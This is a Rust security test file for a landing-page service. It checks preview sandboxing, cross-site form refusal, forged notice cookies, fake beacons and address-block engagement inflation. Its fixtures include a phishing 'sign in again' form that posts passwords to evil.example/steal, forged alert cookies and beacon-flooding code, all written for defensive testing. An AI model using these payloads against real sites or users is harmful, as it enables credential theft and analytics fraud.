//! What an attacker tried on the newest surfaces (issue 44): draft previews, the setup link,
//! the dashboard's notices, every HTML answer's policy, and engagement bought with made-up
//! beacons or a block of addresses. Each test failed before its fix.

use std::collections::{BTreeSet, VecDeque};
use std::time::Duration;

use serde_json::{Value, json};

use crate::common::*;
use crate::oauth::{Browser, PASSWORD, hidden, setup};

/// The Content-Security-Policy of an answer, as one string.
fn policy(headers: &reqwest::header::HeaderMap) -> String {
    headers
        .get("content-security-policy")
        .map(|v| v.to_str().unwrap().to_owned())
        .unwrap_or_default()
}

/// A draft with a "sign in again" form posting elsewhere and an image that reports a look.
const PHISHING_DRAFT: &str = r#"<h1>Your session expired</h1>
<img src="https://tracker.example/seen.png" alt="">
<form action="https://evil.example/steal" method="post">
<label>Password <input type="password" name="password"></label><button>Sign in</button>
</form>"#;

#[tokio::test]
async fn a_draft_preview_is_sandboxed_submits_nothing_and_loads_nothing_from_elsewhere() {
    let s = setup().await;
    let (key, ws) = (&s.account.api_key, s.account.workspace_id);
    let (campaign, _) = create_campaign(&s.server, key, ws, "Phish").await;
    s.server
        .post(
            key,
            "/pages/update-design",
            json!({"workspace_id": ws, "campaign_id": campaign, "html": PHISHING_DRAFT}),
        )
        .await
        .expect(200);
    let check = |csp: &str, framed_by: &str| {
        for directive in [
            "sandbox;",
            "form-action 'none'",
            "img-src 'self' data:",
            "font-src 'self' data:",
            "base-uri 'none'",
            framed_by,
        ] {
            assert!(csp.contains(directive), "{directive} in {csp}");
        }
        assert!(!csp.contains('*'), "nothing from anywhere: {csp}");
    };
    let api = s
        .server
        .get(
            key,
            &format!("/pages/preview?workspace_id={ws}&campaign_id={campaign}"),
        )
        .await
        .expect(200);
    assert!(api.text.contains("evil.example"), "the draft as written");
    check(
        api.header("content-security-policy").unwrap(),
        "frame-ancestors 'none'",
    );
    let mut owner = Browser::new(&s.server);
    owner
        .log_in("owner@example.com", PASSWORD, "/dashboard")
        .await;
    let (status, headers, _) = owner
        .get_with_headers(&format!("/dashboard/campaigns/{campaign}/preview"))
        .await;
    assert_eq!(status, 200);
    check(&policy(&headers), "frame-ancestors 'self'");
}

/// Every link of a page to another page of this site.
fn links(page: &str) -> Vec<String> {
    page.split("href=\"")
        .skip(1)
        .filter_map(|rest| rest.split('"').next())
        .map(|href| href.replace("&amp;", "&").replace("&#x2f;", "/"))
        .filter(|href| href.starts_with("/dashboard") || href.starts_with("/p/"))
        .collect()
}

/// Visits `start` and every page of this site they link to (80 at most), asserting that
/// every HTML answer's policy says where its forms may post; answers how many were visited.
async fn crawl(browser: &mut Browser, start: Vec<String>, seen: &mut BTreeSet<String>) -> usize {
    let mut queue: VecDeque<String> = start.into();
    let mut visited = 0;
    while let Some(path) = queue.pop_front() {
        if seen.len() >= 80 || !seen.insert(path.clone()) {
            continue;
        }
        let (status, headers, page) = browser.get_with_headers(&path).await;
        visited += 1;
        let is_html = headers
            .get("content-type")
            .and_then(|v| v.to_str().ok())
            .is_some_and(|v| v.starts_with("text/html"));
        if is_html {
            let csp = policy(&headers);
            assert!(
                csp.contains("form-action"),
                "{path} ({status}) has no form-action: {csp:?}"
            );
            queue.extend(links(&page));
        }
    }
    visited
}

#[tokio::test]
async fn every_html_answer_says_where_its_forms_may_post() {
    let s = setup().await;
    let (key, ws) = (&s.account.api_key, s.account.workspace_id);
    let (campaign, pages) = live_campaign(&s.server, key, ws, "Crawl", 2).await;
    let mut browser = Browser::new(&s.server);
    let mut seen = BTreeSet::new();
    // Signed out: the login and setup screens, a visitor's page and the notices.
    let page = pages[0].1.trim_start_matches(&s.server.http).to_owned();
    let signed_out = [
        "/dashboard/login",
        "/dashboard/setup?token=nothing",
        &page,
        "/p/no-such/page",
        "/p/track.js",
    ];
    let mut visited = crawl(
        &mut browser,
        signed_out.iter().map(|p| (*p).to_owned()).collect(),
        &mut seen,
    )
    .await;
    // Signed in: every screen the dashboard links to.
    browser
        .log_in("owner@example.com", PASSWORD, "/dashboard")
        .await;
    let signed_in = vec![
        "/dashboard".to_owned(),
        format!("/dashboard/campaigns/{campaign}"),
        format!("/dashboard/campaigns/{campaign}/preview"),
        format!("/dashboard/leads/{}", pages[0].0),
        "/dashboard/settings".to_owned(),
    ];
    visited += crawl(&mut browser, signed_in, &mut seen).await;
    assert!(visited >= 15, "only {visited} pages were reached: {seen:?}");
}

#[tokio::test]
async fn the_setup_link_signs_in_only_from_its_own_form_on_this_site() {
    let db = TestDb::new();
    let server = Server::serve(&db, &[]);
    let link = server
        .stdout
        .join("\n")
        .split_whitespace()
        .find(|word| word.contains("/dashboard/setup?token="))
        .unwrap()
        .trim_start_matches(&server.http)
        .to_owned();
    let token = link.split("token=").nth(1).unwrap().to_owned();
    // A foreign page posting the link's token into a victim's browser (no form of ours).
    let mut victim = Browser::new(&server);
    let (status, _, _) = victim
        .post_from(
            "https://evil.example",
            "/dashboard/setup",
            &[("token", token.as_str()), ("password", "attacker's own")],
        )
        .await;
    assert_eq!(status, 403);
    // Even holding the form's cookie and token, a post from another site is refused.
    let (_, _, form) = victim.get(&link).await;
    let csrf = hidden(&form, "csrf_token");
    let fields = [
        ("token", token.as_str()),
        ("csrf_token", csrf.as_str()),
        ("password", "attacker's own"),
    ];
    let (status, _, _) = victim
        .post_from("https://evil.example", "/dashboard/setup", &fields)
        .await;
    assert_eq!(status, 403);
    let (status, _, _) = victim.post_from("null", "/dashboard/setup", &fields).await;
    assert_eq!(status, 403);
    // Without the form's cookie: refused too.
    let mut stranger = Browser::new(&server);
    let (status, _, _) = stranger.post("/dashboard/setup", &fields).await;
    assert_eq!(status, 403);
    // From its own form on this site: signed in, once.
    let (status, location, _) = victim
        .post_from(&server.http, "/dashboard/setup", &fields)
        .await;
    assert_eq!((status, location.as_deref()), (303, Some("/dashboard")));
}

#[tokio::test]
async fn every_dashboard_form_from_another_site_is_refused() {
    let s = setup().await;
    let mut owner = Browser::new(&s.server);
    owner
        .log_in("owner@example.com", PASSWORD, "/dashboard")
        .await;
    let (_, _, settings) = owner.get("/dashboard/settings").await;
    let csrf = hidden(&settings, "csrf_token");
    let form = [("csrf_token", csrf.as_str()), ("name", "from elsewhere")];
    let (status, _, _) = owner
        .post_from("https://evil.example", "/dashboard/keys/create", &form)
        .await;
    assert_eq!(status, 403);
    let (status, _, _) = owner
        .post_from(&s.server.http, "/dashboard/keys/create", &form)
        .await;
    assert_eq!(status, 303);
}

#[tokio::test]
async fn a_notice_nobody_at_lps_wrote_is_never_shown() {
    let s = setup().await;
    let mut owner = Browser::new(&s.server);
    owner
        .log_in("owner@example.com", PASSWORD, "/dashboard")
        .await;
    use base64::Engine;
    let forged = base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(
        json!({"alert": true, "text": "Your session expired: sign in at evil.example",
               "secret": null})
        .to_string(),
    );
    for value in [forged.clone(), format!("{forged}.AAAA")] {
        owner.plant_cookie("lps_notice", &value);
        let (status, _, home) = owner.get("/dashboard").await;
        assert_eq!(status, 200);
        assert!(!home.contains("evil.example"), "{home}");
    }
    // A notice lps wrote is shown (once).
    let (_, _, settings) = owner.get("/dashboard/settings").await;
    let csrf = hidden(&settings, "csrf_token");
    let (_, location, _) = owner
        .post(
            "/dashboard/keys/create",
            &[("csrf_token", csrf.as_str()), ("name", "shown")],
        )
        .await;
    let (_, _, page) = owner.get(location.as_deref().unwrap()).await;
    assert!(
        page.contains("role=\"alert\">The workspace id field is required."),
        "{page}"
    );
}

/// One beacon from `address` (through a trusted proxy), as the script sends it.
async fn beacon_from(server: &Server, page: &str, address: &str, visitor: &str, body: Value) {
    server
        .send(
            server
                .client
                .post(format!("{page}/beacon"))
                .header("content-type", "text/plain;charset=UTF-8")
                .header("user-agent", DESKTOP_BROWSER)
                .header("x-forwarded-for", address)
                .header("cookie", format!("lps_vid={visitor}"))
                .body(body.to_string()),
        )
        .await
        .expect(204);
}

/// The page fetched from `address`: its load's id.
async fn load_from(server: &Server, page: &str, address: &str) -> String {
    load_page_from(server, page, DESKTOP_BROWSER, Some(address))
        .await
        .expect("a page-load token")
}

#[tokio::test]
async fn a_view_whose_page_lps_never_served_is_kept_as_automated() {
    let db = TestDb::new();
    let account = bootstrap(&db, &[]);
    let server = Server::serve(&db, &["--trusted-proxies", "127.0.0.1/32"]);
    let (key, ws) = (&account.api_key, account.workspace_id);
    let (campaign, pages) = live_campaign(&server, key, ws, "Unloaded", 2).await;
    let (lead, page) = (&pages[0].0, pages[0].1.as_str());
    let other_page = pages[1].1.as_str();
    let made_up = format!("{:040x}", 42);
    let from_another_page = load_from(&server, other_page, "203.0.113.1").await;
    for (n, view_id) in [
        Some(made_up.as_str()),
        None,
        Some(from_another_page.as_str()),
    ]
    .into_iter()
    .enumerate()
    {
        let mut body = json!({"type": "view", "interaction": "pointer"});
        if let Some(id) = view_id {
            body["view_id"] = json!(id);
        }
        beacon_from(&server, page, "203.0.113.1", &format!("{n:032x}"), body).await;
    }
    let entry = analytics_until(&server, key, ws, campaign, |e| {
        e["filtered_visits"]["automated"] == 3
    })
    .await;
    assert_eq!(entry["pages_visited"], 0, "{entry}");
    assert_eq!(entry["filtered_visits"]["automated"], 3, "{entry}");
    let listed = server
        .get(key, &format!("/leads/activity?lead_id={lead}"))
        .await
        .expect(200)
        .json();
    assert!(
        listed["entries"]
            .as_array()
            .unwrap()
            .iter()
            .any(|e| e["reason"]
                == "no page load lps served has this id: the page was never fetched"),
        "{listed}"
    );
    // The page fetched first: the view counts.
    let load = load_from(&server, page, "203.0.113.1").await;
    beacon_from(
        &server,
        page,
        "203.0.113.1",
        &format!("{:032x}", 9),
        json!({"type": "view", "view_id": load, "interaction": "pointer"}),
    )
    .await;
    let entry = analytics_until(&server, key, ws, campaign, |e| e["pages_visited"] == 1).await;
    assert_eq!(entry["pages_visited"], 1, "{entry}");
}

#[tokio::test]
async fn engagement_cannot_be_bought_with_a_block_of_addresses() {
    let db = TestDb::new();
    let account = bootstrap(&db, &[]);
    let server = Server::serve(
        &db,
        &[
            "--trusted-proxies",
            "127.0.0.1/32",
            "--rate-limit-per-minute",
            "100000",
        ],
    );
    let (key, ws) = (&account.api_key, account.workspace_id);
    let (campaign, pages) = live_campaign(&server, key, ws, "Bought", 1).await;
    let (lead, page) = (pages[0].0, pages[0].1.as_str());
    let server = &server;
    // 20 addresses of one /24, five visitors each; every visitor loads the page (so its views
    // are real page loads), clicks ten times and claims an hour of reading.
    let visits = (1..=20).flat_map(|host| {
        (0..5).map(move |visitor| async move {
            let address = format!("198.51.100.{host}");
            let visitor = format!("{host:016x}{visitor:016x}");
            let load = load_from(server, page, &address).await;
            let beacon =
                |kind: &str| json!({"type": kind, "view_id": load, "interaction": "pointer"});
            beacon_from(server, page, &address, &visitor, beacon("view")).await;
            for _ in 0..10 {
                let mut click = beacon("click");
                click["target"] = json!("#cta");
                beacon_from(server, page, &address, &visitor, click).await;
            }
            for _ in 0..2 {
                let mut time = beacon("time");
                time["seconds"] = json!(1800);
                beacon_from(server, page, &address, &visitor, time).await;
            }
        })
    });
    futures_util::future::join_all(visits).await;
    // Everything stored (batches every 250 ms), then the figures.
    let entry = analytics_until(server, key, ws, campaign, |e| {
        e["unique_visitors"].as_i64().unwrap_or(0) >= 5
            && e["filtered_visits"]["automated"].as_i64().unwrap_or(0) >= 95
    })
    .await;
    tokio::time::sleep(Duration::from_millis(800)).await;
    let lead = server
        .get(key, &format!("/leads/get?lead_id={lead}"))
        .await
        .expect(200)
        .json();
    let engagement = &lead["engagement"];
    println!("bought: {entry}\nlead: {engagement}");
    // One network adds five visitors to a page, like one address.
    assert_eq!(entry["unique_visitors"], 5, "{entry}");
    // A lead gains at most 20 points and an hour of engaged time in an hour.
    assert!(
        engagement["score"].as_f64().unwrap() <= 20.0,
        "{engagement}"
    );
    assert!(
        engagement["engaged_seconds"].as_i64().unwrap() <= 3_600,
        "{engagement}"
    );
}

/// The schema a `$ref` names in the document, or the schema itself.
fn resolved<'a>(document: &'a Value, schema: &'a Value) -> &'a Value {
    let mut schema = schema;
    while let Some(name) = schema["$ref"].as_str() {
        let name = name.rsplit('/').next().unwrap();
        schema = &document["components"]["schemas"][name];
    }
    schema
}

#[tokio::test]
async fn every_list_field_of_every_operation_takes_a_json_array_and_nothing_else() {
    let db = TestDb::new();
    let account = bootstrap(&db, &[]);
    let server = Server::serve(&db, &["--rate-limit-per-minute", "100000"]);
    let key = &account.api_key;
    let document = server.get(key, "/openapi.json").await.expect(200).json();
    let mut checked = 0;
    for (path, operations) in document["paths"].as_object().unwrap() {
        for (method, operation) in operations.as_object().unwrap() {
            let Some(schema) =
                operation["requestBody"]["content"]["application/json"].get("schema")
            else {
                continue;
            };
            let schema = resolved(&document, schema);
            let Some(properties) = schema["properties"].as_object() else {
                continue;
            };
            for (field, property) in properties {
                let kind = resolved(&document, property)["type"].clone();
                let is_list = kind == "array"
                    || kind
                        .as_array()
                        .is_some_and(|kinds| kinds.contains(&json!("array")));
                if !is_list {
                    continue;
                }
                for not_a_list in [
                    json!("1,2"),
                    json!("7"),
                    json!(7),
                    json!({"0": 1}),
                    json!(true),
                ] {
                    let body = json!({
                        "workspace_id": account.workspace_id,
                        field.as_str(): not_a_list,
                    });
                    let url = format!("{}{path}", server.http);
                    let reply = server
                        .send(
                            server
                                .client
                                .request(method.to_uppercase().parse().unwrap(), url)
                                .bearer_auth(key)
                                .json(&body),
                        )
                        .await;
                    assert_eq!(
                        reply.status, 422,
                        "{method} {path} {field}={not_a_list}: {}",
                        reply.text
                    );
                    let errors = &reply.json()["errors"][field.as_str()];
                    assert!(
                        errors[0]
                            .as_str()
                            .is_some_and(|message| message.contains("must be an array")),
                        "{method} {path} {field}={not_a_list}: {}",
                        reply.text
                    );
                    checked += 1;
                }
            }
        }
    }
    println!("{checked} list fields fed what is not a list");
    assert!(
        checked >= 25,
        "only {checked} cases: the document lists fewer lists than it did"
    );
    // Query strings and forms may still write a list as text.
    let ws = account.workspace_id;
    server
        .get(
            key,
            &format!("/campaigns/analytics?workspace_id={ws}&campaign_ids=1,2"),
        )
        .await
        .expect(404);
}

#[tokio::test]
async fn an_erased_persons_values_leave_the_sqlite_files_when_the_erasure_commits() {
    let db = TestDb::new();
    if db.is_postgres() {
        return; // PostgreSQL's own files are its own (docs/operations.md, "Erasure on disk").
    }
    let account = bootstrap(&db, &[]);
    let server = Server::serve(&db, &[]);
    let (key, ws) = (&account.api_key, account.workspace_id);
    let (campaign, _) = create_campaign(&server, key, ws, "Erase").await;
    let marker = format!("Erasable{}", uuid::Uuid::new_v4().simple());
    let job = upsert(
        &server,
        key,
        json!({"campaign_id": campaign, "leads": [{"values": {
            "email": format!("{marker}@example.com"), "first_name": marker,
            "company_name": marker}}]}),
    )
    .await;
    wait_for_job(&server, key, &job).await;
    let lead = server
        .get(key, &format!("/leads/search?workspace_id={ws}"))
        .await
        .expect(200)
        .json()["leads"][0]["lead_id"]
        .as_i64()
        .unwrap();
    let path = db.url.trim_start_matches("sqlite://").to_owned();
    let holds = |file: &str| {
        std::fs::read(file).is_ok_and(|bytes| {
            bytes
                .windows(marker.len())
                .any(|window| window == marker.as_bytes())
        })
    };
    assert!(
        holds(&path) || holds(&format!("{path}-wal")),
        "the value is on disk before"
    );
    server
        .post(
            key,
            "/leads/delete",
            json!({"workspace_id": ws, "lead_ids": [lead]}),
        )
        .await
        .expect(200);
    assert!(
        !holds(&format!("{path}-wal")),
        "the log keeps the erased value"
    );
    assert!(!holds(&path), "the database file keeps the erased value");
}
